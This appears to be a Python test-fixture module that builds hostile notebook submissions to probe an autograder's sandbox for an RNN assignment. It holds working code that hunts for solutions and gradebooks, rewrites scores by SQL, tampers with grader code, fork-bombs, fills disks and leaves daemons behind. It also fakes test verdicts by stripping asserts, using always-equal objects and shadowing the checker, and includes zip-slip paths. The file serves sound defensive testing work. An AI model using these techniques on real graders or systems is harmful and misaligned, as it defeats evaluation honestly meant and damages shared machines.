"""Hostile and broken submissions of ps03-rnn, each built from the reference or a wrong fixture.

ps03-rnn has 11 one-point tests: six visible (V1 .. V5) and five hidden (H1 .. H5), one pair per
answer (part 2 has two visible tests). The suite grades with ``confirm_visible`` on: a visible
test's point also needs the hidden check of its answer, so notes-answer (10 without it) gets 9.
A case is one student of an LMS zip. Its builder takes
the reference answers or a committed wrong fixture (``tests/fixtures/ps03-rnn/``) and injects
an extra cell, edits an answer cell or edits the JSON. Each case predicts

- ``score``: its exact grade (the points it would get honestly, minus what the attack costs);
- ``lost``: exactly which test cells lose their point;
- ``why``: (test cell, words its one-line reason in the feedback's "Points lost" must contain);
- ``note``: for a file the grader cannot read, the words of the reason it gives the instructor
  and the student (the notebook is graded as the blank release).

The attacker is assumed to know everything about the grading machine: the paths of the
repository, the scratch course and the class archive are written into its code (``Ctx``).
Every file it tries to write and every process it leaves carries the run's ``Ctx.token``.
"""
from __future__ import annotations

import copy
import json
import textwrap
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

REPO = Path(__file__).resolve().parents[2]
PS = "ps03-rnn"
NB = f"{PS}.ipynb"
SOURCE = REPO / "exercises" / "source" / PS / NB
FIXTURES = REPO / "tests" / "fixtures" / PS

V1, H1 = "test_rnn_lm_num_params_visible", "test_rnn_lm_num_params_hidden"
V2A, V2B, H2 = "test_rnn_forward_note_004", "test_rnn_forward_note_000", "test_rnn_forward_hidden"
V3, H3 = "test_input_gradient_norms_visible", "test_input_gradient_norms_hidden"
V4, H4 = "test_many_to_one_visible", "test_many_to_one_hidden"
V5, H5 = "test_to_gluon_rnn_visible", "test_to_gluon_rnn_hidden"
TESTS = (V1, H1, V2A, V2B, H2, V3, H3, V4, H4, V5, H5)
FULL = float(len(TESTS))

# the bug that keeps a prediction from holding (see the report); the tests are marked xfail with it
CONFIRM_BUG = ("grader bug: TrustedVerdict.confirm() overwrites a visible test that had already failed "
               "on its own (NameError, SystemExit, GradingLimit) with 'not confirmed: ... cannot be "
               "trusted', so the student is not told why")


@dataclass(frozen=True)
class Ctx:
    """What a worst-case attacker knows: every path of the grading machine, and this run's markers."""
    repo: Path
    course: Path
    archive: Path
    token: str     # digits, unique per run
    port: int      # the test listens on this TCP port on the host, on every address
    hosts: tuple   # the host's addresses

    @property
    def mark(self) -> str:
        return f"HOSTILE-{self.token}"

    @property
    def sleep(self) -> str:
        """The argument of every ``sleep`` a hostile cell leaves behind: ``pgrep -f 'sleep 987654'``."""
        return f"987654.{self.token}"


@dataclass(frozen=True)
class Case:
    student: str
    what: str
    build: Callable[[Ctx], bytes]
    score: float
    lost: tuple = ()
    why: tuple | None = None   # (test cell, words of its one-line reason)
    note: str = ""             # unreadable file: words of the reason (grade table and feedback)
    member: str = ""           # the zip member, default <student>/ps03-rnn.ipynb
    bug: str = ""              # the grader bug that makes the ``why`` prediction fail

    @property
    def zip_member(self) -> str:
        return self.member or f"{self.student}/{NB}"


# --- notebooks as a student's JSON ---------------------------------------------------------------

def load(path: Path) -> dict:
    """A notebook as plain JSON with every source as one string."""
    nb = json.loads(path.read_text(encoding="utf-8"))
    for cell in nb["cells"]:
        if isinstance(cell.get("source"), list):
            cell["source"] = "".join(cell["source"])
    return nb


def dump(nb: dict) -> bytes:
    return json.dumps(nb, indent=1, ensure_ascii=False).encode("utf-8")


def gid_of(cell: dict):
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def cell_of(nb: dict, gid: str) -> dict:
    (cell,) = [c for c in nb["cells"] if gid_of(c) == gid]
    return cell


def code_cell(source: str) -> dict:
    return {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": source}


def with_extra(nb: dict, after: str, source: str) -> dict:
    """A cell of the student's own right after the cell ``after`` (a grade_id)."""
    i = next(i for i, c in enumerate(nb["cells"]) if gid_of(c) == after)
    nb["cells"].insert(i + 1, code_cell(textwrap.dedent(source).strip() + "\n"))
    return nb


def edit(nb: dict, gid: str, old: str, new: str) -> dict:
    cell = cell_of(nb, gid)
    assert old in cell["source"], (gid, old)
    cell["source"] = cell["source"].replace(old, new, 1)
    return nb


def prepend(nb: dict, gid: str, code: str) -> dict:
    cell = cell_of(nb, gid)
    cell["source"] = textwrap.dedent(code).strip() + "\n\n" + cell["source"]
    return nb


def fixture(name: str) -> dict:
    return load(FIXTURES / f"{name}.ipynb")


def reference_answers() -> dict:
    """The release with the reference's answers: double-bias with its one edit undone."""
    return edit(fixture("double-bias"), "to_gluon_rnn", '"h2h_bias": b_h}', '"h2h_bias": np.zeros_like(b_h)}')


# --- code the hostile cells run ------------------------------------------------------------------

# Find every secret the process can read or reach. Used in the sandbox (hunt-secrets, walking the
# whole file system it sees) and, as the proof that it would work, outside it (test_hostile.py).
HUNT = r'''
import json, os, socket, sys, zipfile


def hunt(repo, course, archive, port, hosts, roots=("/",)):
    """{readable path: what secret it holds}, and the hosts a TCP connection reached."""
    secrets = {}

    def classify(path, follow=False):
        try:
            if (os.path.islink(path) and not follow) or not os.path.isfile(path):
                return
            if "/.ipython/" in os.path.realpath(path):
                return  # the kernel's own command history
            if os.path.getsize(path) > 60_000_000:
                return
            with open(path, "rb") as f:
                data = f.read()
        except OSError:
            return
        kind = None
        if data.startswith(b"SQLite format 3"):
            kind = "database"
        elif data.startswith(b"PK"):
            try:
                with zipfile.ZipFile(path) as zf:
                    if any(n.endswith(".ipynb") for n in zf.namelist()):
                        kind = "archive of notebooks"
            except (zipfile.BadZipFile, OSError):
                pass
        elif b"### BEGIN SOLUTION\\n" in data or b"### BEGIN HIDDEN TESTS\\n" in data:
            kind = "solution or hidden test"
        elif b"num_outputs = vocab_size  # one score for every word that can come next" in data:
            kind = "a correct answer"
        elif path.endswith(".json"):
            try:
                if "rnn_lm_num_params.random" in json.loads(data)["checks"]:
                    kind = "expectations"
            except Exception:
                pass
        if kind:
            secrets[path] = kind

    explicit = [os.path.join(repo, "exercises", "source", "ps03-rnn", "ps03-rnn.ipynb"),
                os.path.join(repo, "autograder", "expectations", "ps03-rnn.json"),
                os.path.join(repo, "exercises", "gradebook.db"),
                os.path.join(repo, "tests", "fixtures", "ps03-rnn", "double-bias.ipynb"),
                os.path.join(course, "gradebook.db"),
                os.path.join(course, "source", "ps03-rnn", "ps03-rnn.ipynb"),
                archive]
    for sub in ("submitted", "autograded"):
        try:
            students = os.listdir(os.path.join(course, sub))
        except OSError:
            students = []
        explicit += [os.path.join(course, sub, s, "ps03-rnn", "ps03-rnn.ipynb") for s in students]
    for path in explicit:
        classify(path)
    try:  # a file the grader left open and inherited
        for fd in os.listdir("/proc/self/fd"):
            classify(f"/proc/self/fd/{fd}", follow=True)
    except OSError:
        pass
    skip = {"/proc", "/sys", "/dev", "/usr", "/lib", "/lib32", "/lib64", "/bin", "/sbin", "/boot", "/snap",
            "/run", "/var/lib", "/var/cache", os.path.realpath(sys.prefix), os.path.realpath(sys.base_prefix)}
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if os.path.join(dirpath, d) not in skip
                           and not os.path.islink(os.path.join(dirpath, d))]
            for name in filenames:
                if name.endswith((".ipynb", ".json", ".db", ".sqlite", ".zip")):
                    classify(os.path.join(dirpath, name))
    reached = []
    for host in hosts:
        try:
            with socket.create_connection((host, port), timeout=2) as s:
                s.sendall(b"hostile")
            reached.append(host)
        except OSError:
            pass
    return {"secrets": secrets, "reached": reached}


def replayer(expected, fallback):
    """rnn_lm_num_params answering the hidden probe's sizes (copied from the readable probe) from the
    calibrated expectations, anything else with ``fallback``."""
    import random
    rng = random.Random(301)
    sizes = [(28, 256, None), (28, 256, 32), (10000, 200, None), (10000, 200, 200), (1, 1, None), (2, 3, 1)]
    for i in range(20):
        sizes.append((rng.randint(2, 60000), rng.randint(1, 2048), None if i % 2 else rng.randint(1, 512)))
    table = {s: tuple(v) for s, v in zip(sizes, expected)}

    def rnn_lm_num_params(vocab_size, num_hiddens, embed_size=None):
        return table.get((vocab_size, num_hiddens, embed_size)) or fallback(vocab_size, num_hiddens, embed_size)
    return rnn_lm_num_params
'''


def hunt_cell(ctx: Ctx) -> str:
    return HUNT + textwrap.dedent(f'''
        _report = hunt({str(ctx.repo)!r}, {str(ctx.course)!r}, {str(ctx.archive)!r}, {ctx.port}, {list(ctx.hosts)!r})
        print("HUNT-REPORT:" + json.dumps(_report))
        for _path, _kind in _report["secrets"].items():  # put whatever was found to use
            if _kind == "expectations":
                with open(_path) as _f:
                    rnn_lm_num_params = replayer(json.load(_f)["checks"]["rnn_lm_num_params.random"]["value"],
                                                 rnn_lm_num_params)
            elif _path.endswith(".ipynb") and _kind in ("a correct answer", "solution or hidden test"):
                with open(_path) as _f:
                    for _cell in json.load(_f)["cells"]:
                        _src = "".join(_cell["source"])
                        if _src.startswith("def rnn_lm_num_params"):
                            exec(_src, globals())
        ''')


def forge_cell(ctx: Ctx) -> str:
    return textwrap.dedent(f'''
        import json, os, sqlite3, sysconfig
        from ipykernel.connect import get_connection_file

        _repo, _course, _mark = {str(ctx.repo)!r}, {str(ctx.course)!r}, {ctx.mark!r}
        _runtime = os.path.dirname(get_connection_file())

        def _append(path):
            with open(path, "a") as f:
                f.write(_mark)

        def _create(path):
            with open(path, "x") as f:
                f.write(_mark)

        def _sql(path):
            if not os.path.exists(path):
                raise FileNotFoundError(path)  # sqlite3 would create an empty database
            db = sqlite3.connect(path)
            db.execute("update grade set manual_score = 100")
            db.commit()

        _attempts = {{
            "course gradebook": lambda: _sql(os.path.join(_course, "gradebook.db")),
            "repository gradebook": lambda: _sql(os.path.join(_repo, "exercises", "gradebook.db")),
            "forged autograded notebook": lambda: _create(
                os.path.join(_course, "autograded", "forge-results", "ps03-rnn", _mark + ".ipynb")),
            "another student's submission": lambda: _append(
                os.path.join(_course, "submitted", "reference", "ps03-rnn", "ps03-rnn.ipynb")),
            "class archive": lambda: _append({str(ctx.archive)!r}),
            "source notebook": lambda: _append(
                os.path.join(_repo, "exercises", "source", "ps03-rnn", "ps03-rnn.ipynb")),
            "grader code": lambda: _append(os.path.join(_repo, "autograder", "checks.py")),
            "new grader module": lambda: _create(os.path.join(_repo, "autograder", _mark + ".py")),
            "library code": lambda: _append(os.path.join(_repo, "seqmx", "__init__.py")),
            "corpus": lambda: _append(os.path.join(_repo, "data", "timemachine.txt")),
            "corpus checksums deleted": lambda: os.remove(os.path.join(_repo, "data", "SHA1SUMS")),
            "grader code made writable": lambda: os.chmod(os.path.join(_repo, "autograder", "executor.py"), 0o777),
            "startup hook in the environment": lambda: _create(
                os.path.join(sysconfig.get_paths()["purelib"], _mark + ".pth")),
            "expectations folder (the sandbox's empty cover)": lambda: _create(
                os.path.join(_repo, "autograder", "expectations", "ps03-rnn.json")),
            "work folder": lambda: _create(os.path.join(os.getcwd(), _mark + ".json")),
            "/tmp": lambda: _create(os.path.join("/tmp", _mark)),
            "kernel runtime folder": lambda: _create(os.path.join(_runtime, _mark + ".json")),
        }}
        _report = {{"runtime": _runtime, "attempts": {{}}}}
        for _what, _attempt in _attempts.items():
            try:
                _attempt()
                _report["attempts"][_what] = "done"
            except Exception as _err:
                _report["attempts"][_what] = type(_err).__name__
        print("FORGE-REPORT:" + json.dumps(_report))
        print("hidden test passed")  # a lie on stdout, for a grader that reads it
        ''')


# the writes forge-results may make: inside the sandbox's own scratch (gone with it)
FORGE_INSIDE = {"expectations folder (the sandbox's empty cover)", "work folder", "/tmp", "kernel runtime folder"}


def disk_cell(ctx: Ctx) -> str:
    return textwrap.dedent(f'''
        import json, os
        from ipykernel.connect import get_connection_file

        _CAP = 320 << 20          # stop there: more than the 256 MB the sandbox should allow anywhere
        _chunk = b"\\0" * (1 << 20)

        def _fill(folder, file_mb=32):
            """Bytes written into folder (files of file_mb) until an error or _CAP, and the error."""
            written, i, error = 0, 0, None
            try:
                while written < _CAP:
                    fd = os.open(os.path.join(folder, f"{ctx.mark}-{{i}}.bin"), os.O_WRONLY | os.O_CREAT, 0o600)
                    try:
                        for _ in range(file_mb):
                            written += os.write(fd, _chunk)
                    finally:
                        os.close(fd)
                    i += 1
            except OSError as err:
                error = err.strerror
            return {{"bytes": written, "error": error}}

        def _one_file(folder):
            """The size a single file reaches (the file-size limit), then it is removed."""
            path = os.path.join(folder, f"{ctx.mark}-big.bin")
            written, error = 0, None
            try:
                fd = os.open(path, os.O_WRONLY | os.O_CREAT, 0o600)
                try:
                    while written < (100 << 20):
                        written += os.write(fd, _chunk)
                finally:
                    os.close(fd)
            except OSError as err:
                error = err.strerror
            os.remove(path)
            return {{"bytes": written, "error": error}}

        def _clean(folder):
            for name in os.listdir(folder):
                if name.startswith({ctx.mark!r}):
                    os.remove(os.path.join(folder, name))

        _runtime = os.path.dirname(get_connection_file())
        _report = {{"file": _one_file("/tmp"), "runtime": _runtime}}
        for _where in ("/tmp", "/dev/shm", "/", _runtime):
            if os.access(_where, os.W_OK):
                _report[_where] = _fill(_where)
                _clean(_where)  # the memory these tmpfs hold is the machine's: give it back
        _report["work"] = _fill(os.getcwd())  # left full
        print("DISK-REPORT:" + json.dumps(_report))
        ''')


def procs_cell(ctx: Ctx) -> str:
    return textwrap.dedent(f'''
        import json, os, signal, subprocess
        from ipykernel.connect import get_connection_file

        _sleep = {ctx.sleep!r}
        subprocess.Popen(["sleep", _sleep], start_new_session=True)                   # its own session
        subprocess.Popen(["sh", "-c", f"trap '' HUP INT TERM; sleep {{_sleep}} & exit 0"])  # orphaned at once
        _pid = os.fork()
        if _pid == 0:  # a daemon by double fork, deaf to hang-ups and terminations
            os.setsid()
            if os.fork() == 0:
                for _s in (signal.SIGHUP, signal.SIGINT, signal.SIGTERM):
                    signal.signal(_s, signal.SIG_IGN)
                os.execvp("sleep", ["sleep", _sleep])
            os._exit(0)
        os.waitpid(_pid, 0)
        print("PROCS-REPORT:" + json.dumps({{"runtime": os.path.dirname(get_connection_file())}}))
        ''')


FLOOD = '''
import sys
from IPython.display import display

for _ in range(20):
    sys.stdout.write("flood " * 174_763 + "\\n")  # 20 lines of 1 MB
sys.stdout.flush()
for _ in range(5):
    sys.stderr.write("E" * (1 << 20) + "\\n")
for _ in range(100):
    display({"text/plain": "D" * 99_000}, raw=True)  # each just under the 100k-character cap
display({"application/json": {"flood": ["J" * 1000] * 5000}}, raw=True)  # 5 MB, not a string
display({"application/vnd.seqmx.probe+json": {"check": "flood", "values": "P" * 5_000_000},
         "text/plain": "flood"}, raw=True)  # 5 MB in the probes' own type
'''

TRAINING = '''
# My own experiment before the exercises: a small character RNN on The Time Machine (slow, but legal).
from seqmx.rnn import RNNModel, load_data_time_machine, train

train_iter, valid_iter, vocab = load_data_time_machine(batch_size=32, num_steps=35)
net = RNNModel(gluon.rnn.RNN(64, activation="tanh"), len(vocab))
net.initialize()
history = train(net, train_iter, valid_iter, lr=1.0, num_epochs=3)
print("TRAINED:", history.summary())
ACTIVATIONS = ("relu", "tanh")  # to_gluon_rnn uses it: defined only if the training ran to its end
'''


# --- the cases -------------------------------------------------------------------------------------

def _source(ctx):
    return SOURCE.read_bytes()


def _honest_slow(ctx):
    nb = with_extra(fixture("alternative-correct"), "setup", TRAINING)
    return dump(prepend(nb, "to_gluon_rnn", 'assert {"relu", "tanh"} <= set(ACTIVATIONS)  # from my training cell'))


def _patched_assert(ctx):
    return dump(with_extra(fixture("double-bias"), "setup", '''
        import ast

        class _NoAsserts(ast.NodeTransformer):
            """Every assert of every later cell, the visible tests' too, becomes pass."""
            def visit_Assert(self, node):
                return ast.copy_location(ast.Pass(), node)

        get_ipython().ast_transformers.append(_NoAsserts())
        '''))


def _input_transformer(ctx):
    return dump(with_extra(fixture("double-bias"), "setup", r'''
        import re

        def _no_asserts(lines):
            """`assert x, msg` becomes `_ = x, msg` in the text of every later cell."""
            return [re.sub(r"^(\s*)assert\b", r"\1_ =", line) for line in lines]

        get_ipython().input_transformers_cleanup.append(_no_asserts)
        '''))


def _showtraceback(ctx):
    nb = with_extra(fixture("double-bias"), "setup", '''
        import sys
        _ip = get_ipython()
        _ip.showtraceback = _ip._showtraceback = _ip.showsyntaxerror = lambda *args, **kwargs: None
        ''')
    # stock nbgrader gives the points of a cell whose first output is a number (partial credit)
    return dump(edit(nb, "to_gluon_rnn", "    num_inputs, num_hiddens = W_xh.shape",
                     "    sys.displayhook(1.0)  # an execute_result '1.0' before any error\n"
                     "    num_inputs, num_hiddens = W_xh.shape"))


def _lying_eq(ctx):
    nb = reference_answers()
    cell_of(nb, "rnn_lm_num_params")["source"] = textwrap.dedent('''
        class _Anything:
            """Equal to everything: a test's == can only say yes."""
            def __eq__(self, other):
                return True
            def __ne__(self, other):
                return False
            def __hash__(self):
                return 0
            def __int__(self):
                return 7
            __index__ = __int__
            def __repr__(self):
                return "anything"


        def rnn_lm_num_params(vocab_size, num_hiddens, embed_size=None):
            return _Anything(), _Anything()
        ''').strip() + "\n"
    return dump(nb)


def _redefined_helpers(ctx):
    nb = reference_answers()
    edit(nb, "rnn_forward", "np.dot(H, W_hh) + b_h)", "np.dot(H, W_hh))      ")  # b_h forgotten
    cell = cell_of(nb, "rnn_forward")
    cell["source"] += textwrap.dedent('''

        # the visible tests' helpers, made to say yes
        rounds_to = lambda *args, **kwargs: True
        onp.allclose = lambda *args, **kwargs: True
        ''')
    return dump(nb)


def _detect_grader(ctx):
    return dump(with_extra(fixture("notes-answer"), "setup", '''
        import importlib, os, sys

        if os.environ.get("SEQMX_SANDBOX") == "1":  # the grader's sandbox says so itself
            os.makedirs("autograder", exist_ok=True)
            with open("autograder/__init__.py", "w") as f:
                f.write("")
            with open("autograder/checks.py", "w") as f:
                f.write("def check(*args, **kwargs):\\n    print('hidden test passed')\\n")
            for _name in [m for m in sys.modules if m == "autograder" or m.startswith("autograder.")]:
                del sys.modules[_name]  # the hidden tests' `from autograder.checks import check` gets mine
            sys.path.insert(0, os.getcwd())
            importlib.invalidate_caches()
        '''))


def _hunt_secrets(ctx):
    return dump(with_extra(fixture("notes-answer"), "rnn_lm_num_params", hunt_cell(ctx)))


def _forge_results(ctx):
    return dump(with_extra(fixture("double-bias"), "to_gluon_rnn", forge_cell(ctx)))


def _infinite_loop(ctx):
    return dump(prepend(reference_answers(), "rnn_lm_num_params", "while True:\n    pass"))


def _ignore_interrupt(ctx):
    return dump(prepend(reference_answers(), "to_gluon_rnn", '''
        import signal
        signal.signal(signal.SIGINT, signal.SIG_IGN)  # the grader's interrupt does nothing now
        while True:
            pass
        '''))


def _fork_bomb(ctx):
    # Bounded at 2**10 = 1024 processes, twice the sandbox's 512: enough to prove the limit, and safe for
    # the machine (32768 PIDs) while that limit does not hold (test_processes_are_capped).
    return dump(prepend(reference_answers(), "many_to_one", '''
        import os, signal, time

        signal.signal(signal.SIGINT, signal.SIG_IGN)  # deaf to the grader's interrupt, children too
        _first = os.getpid()
        for _ in range(10):  # every process forks every round
            try:
                os.fork()
            except OSError:  # the process limit
                pass
        if os.getpid() != _first:
            time.sleep(3600)
        while True:
            pass
        '''))


def _huge_alloc(ctx):
    return dump(edit(reference_answers(), "many_to_one", "    outputs, _ = rnn_forward(",
                     "    _hog = bytearray(16 << 30)  # 16 GB\n    outputs, _ = rnn_forward("))


def _output_flood(ctx):
    return dump(with_extra(reference_answers(), "setup", FLOOD))


def _disk_fill(ctx):
    return dump(with_extra(reference_answers(), "setup", disk_cell(ctx)))


def _procs_left_behind(ctx):
    return dump(with_extra(reference_answers(), "setup", procs_cell(ctx)))


def _sys_exit(ctx):
    nb = edit(reference_answers(), "many_to_one", "    outputs, _ = rnn_forward(",
              '    sys.exit("many_to_one gives up")\n    outputs, _ = rnn_forward(')
    return dump(prepend(nb, "many_to_one", "import sys"))


def _os_exit(ctx):
    nb = edit(reference_answers(), "input_gradient_norms", "    X = X.copy()", "    os._exit(3)\n    X = X.copy()")
    return dump(prepend(nb, "input_gradient_norms", "import os"))


def _segfault(ctx):
    return dump(prepend(reference_answers(), "to_gluon_rnn", '''
        import ctypes
        ctypes.string_at(0)  # reads address 0: SIGSEGV
        '''))


def tamper_metadata(nb: dict) -> dict:
    """Points, locks, grade flags, checksums and schema versions rewritten; a test ungraded; a bonus cell."""
    for cell in nb["cells"]:
        meta = cell.setdefault("metadata", {}).setdefault("nbgrader", {})
        meta.update(schema_version=99, checksum="0" * 32, locked=False)
        if meta.get("grade") and not meta.get("solution"):
            meta["points"] = 100
        if meta.get("solution"):
            meta.update(grade=True, points=50)
        if meta.get("grade_id") == V5:
            meta["grade"] = False  # the test this notebook fails is no longer a test
    bonus = code_cell("pass")
    bonus["metadata"]["nbgrader"] = {"grade": True, "solution": False, "locked": True, "grade_id": "bonus",
                                     "points": 1000, "schema_version": 3}
    nb["cells"].append(bonus)
    nb["metadata"]["nbgrader"] = {"assignment": PS, "student": "instructor", "max_score": 1}
    return nb


def tamper_tests(nb: dict) -> dict:
    """Hidden tests deleted, a failing test duplicated as `pass`, tests edited and converted."""
    cells = []
    for cell in nb["cells"]:
        gid = gid_of(cell)
        if gid in (H1, H2, H3, H4, H5):
            continue  # deleted
        if gid == V5:
            fake = copy.deepcopy(cell)
            fake["source"] = "pass"
            cells += [fake, copy.deepcopy(fake)]  # the failing visible test, twice, passing
            continue
        if gid == V1:
            cell["source"] = "pass"
        if gid == V2A:
            cell.update(cell_type="markdown")
            cell.pop("outputs", None), cell.pop("execution_count", None)
        if gid == V2B:
            cell.update(cell_type="raw")
            cell.pop("outputs", None), cell.pop("execution_count", None)
        cells.append(cell)
    nb["cells"] = cells
    return nb


def _tampered_metadata(ctx):
    return dump(tamper_metadata(fixture("double-bias")))


def _tampered_tests(ctx):
    return dump(tamper_tests(fixture("double-bias")))


def _not_json(ctx):
    return b"this is not a notebook {"


def _empty(ctx):
    return b""


def _truncated(ctx):
    data = SOURCE.read_bytes()
    return data[: len(data) // 2]


def _nbformat3(ctx):
    nb = load(SOURCE)
    nb["nbformat"] = 3
    return dump(nb)


def _many_cells(ctx):
    nb = reference_answers()
    nb["cells"] += [{"cell_type": "markdown", "metadata": {}, "source": "x"} for _ in range(5000 - len(nb["cells"]))]
    return dump(nb)


def _too_large(ctx):
    nb = reference_answers()
    cell_of(nb, "part1_demo")["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "x" * (21 << 20)}]
    return dump(nb)


DOUBLE_BIAS_LOST = (V5, H5)
HIDDEN_DIFFER = "to_gluon_rnn.random:"

CASES = [
    # controls
    Case("reference", "the source notebook itself (solutions and hidden tests inside)", _source, FULL),
    Case("honest-slow", "alternative-correct answers after a 3-epoch MXNet training cell they depend on",
         _honest_slow, FULL),
    # faking the verdict
    Case("patched-assert", "double-bias + an AST transformer that turns every later assert into pass",
         _patched_assert, 9, DOUBLE_BIAS_LOST, (H5, HIDDEN_DIFFER)),
    Case("input-transformer", "double-bias + an input transformer rewriting `assert x` to `_ = x`",
         _input_transformer, 9, DOUBLE_BIAS_LOST, (H5, HIDDEN_DIFFER)),
    Case("showtraceback", "double-bias + showtraceback silenced + an execute_result 1.0 (stock partial credit)",
         _showtraceback, 9, DOUBLE_BIAS_LOST, (H5, HIDDEN_DIFFER), member=f"showtraceback/showtraceback_1234_5678_{NB}"),  # a Canvas-named file in a student's folder
    Case("lying-eq", "rnn_lm_num_params returns objects equal to everything, int() 7; file name in Chinese",
         _lying_eq, 9, (V1, H1), (H1, "rnn_lm_num_params.random:"), member="lying-eq/第3次作业 (final).ipynb"),
    Case("redefined-helpers", "rnn_forward without b_h + rounds_to and numpy.allclose redefined to say yes",
         _redefined_helpers, 4, (V2A, V2B, H2, V3, H3, V4, H4), (H2, "rnn_forward.random:")),
    Case("detect-grader", "notes-answer + in the sandbox a fake autograder package shadows check()",
         _detect_grader, 0, TESTS, (H1, "no answer was recorded")),
    # reading and writing what a student must not
    Case("hunt-secrets", "notes-answer + walks the file system for expectations, solutions, gradebooks, other "
         "students' work, uses any it finds; connects to the host",
         _hunt_secrets, 9, (V1, H1), (H1, "rnn_lm_num_params.random:")),
    Case("forge-results", "double-bias + writes to gradebooks, results, sources, grader code, the venv; prints "
         "'hidden test passed'", _forge_results, 9, DOUBLE_BIAS_LOST, (H5, HIDDEN_DIFFER)),
    # resources
    Case("infinite-loop", "`while True: pass` before rnn_lm_num_params is defined", _infinite_loop, 9,
         (V1, H1), (V1, "is not defined")),
    Case("ignore-interrupt", "SIGINT ignored, then an endless loop, before to_gluon_rnn is defined",
         _ignore_interrupt, 9, (V5, H5), (V5, "is not defined")),
    Case("fork-bomb", "1024 processes by forking (deaf to interrupts) before many_to_one is defined", _fork_bomb, 9,
         (V4, H4), (V4, "is not defined")),
    Case("huge-alloc", "many_to_one allocates 16 GB", _huge_alloc, 9, (V4, H4), (H4, "MemoryError")),
    Case("output-flood", "a cell printing 20 MB, 5 MB of stderr, 100 displays of 99k characters, 5 MB JSON "
         "and 5 MB in the probes' MIME type", _output_flood, FULL),
    Case("disk-fill", "writes until refused into the work folder, /tmp, /dev/shm, / and the kernel's runtime "
         "folder, and one file until the size limit", _disk_fill, FULL),
    Case("procs-left-behind", "leaves `sleep` processes: own session, orphaned, a double-forked daemon deaf "
         "to SIGHUP/SIGTERM", _procs_left_behind, FULL),
    # the kernel ends
    Case("sys-exit", "many_to_one calls sys.exit", _sys_exit, 9, (V4, H4), (V4, "SystemExit")),
    Case("os-exit", "input_gradient_norms calls os._exit (the kernel dies in both of its tests)", _os_exit, 9,
         (V3, H3), (V3, "kernel died")),
    Case("segfault", "reads address 0 with ctypes before to_gluon_rnn is defined", _segfault, 9,
         (V5, H5), (V5, "is not defined")),
    # tampered metadata and test cells
    Case("tampered-metadata", "double-bias with points 100, unlocked cells, answers graded for 50, its failing "
         "test ungraded, schema_version 99, bad checksums, a 1000-point cell", _tampered_metadata, 9,
         DOUBLE_BIAS_LOST, (H5, HIDDEN_DIFFER)),
    Case("tampered-tests", "double-bias with hidden tests deleted, its failing test duplicated as `pass`, "
         "tests edited and converted to markdown and raw", _tampered_tests, 9, DOUBLE_BIAS_LOST,
         (H5, HIDDEN_DIFFER)),
    # files the grader cannot read: graded as the blank release, with the reason
    Case("broken-not-json", "not JSON", _not_json, 0, TESTS, note="not a notebook (not JSON"),
    Case("broken-empty", "an empty file", _empty, 0, TESTS, note="empty file"),
    Case("broken-truncated", "the reference cut in half", _truncated, 0, TESTS, note="truncated?"),
    Case("broken-nbformat", "the reference claiming nbformat 3", _nbformat3, 0, TESTS,
         note="unsupported notebook format 3"),
    Case("broken-many-cells", "5000 cells", _many_cells, 0, TESTS, note="5000 cells: more than 2000"),
    Case("broken-too-large", "21 MB of output in one cell", _too_large, 0, TESTS, note="larger than 20 MB"),
]

# folders named as no safe id is: graded all the same, under a safe id derived from the name, the
# name kept as written (issue 12: no submission is refused because of its owner's name). They hold
# the blank release (graded 0 quickly): what is tested is that they are graded at all.
NAMED = [f"Zoë O’Neil 学生/{NB}", f"-rf/{NB}", f"{'x' * 65}/{NB}"]
# zip-slip: paths out of the archive; nothing is extracted, the grade table must name each
ZIP_SLIP = [f"../../../tmp/{{mark}}/{NB}", f"/tmp/{{mark}}-abs/{NB}", f"..\\..\\{{mark}}-win\\{NB}"]
# an id built to forge a line of the grade table
TABLE_FORGER = f"evil\nreference      11    11  graded\nx/{NB}"
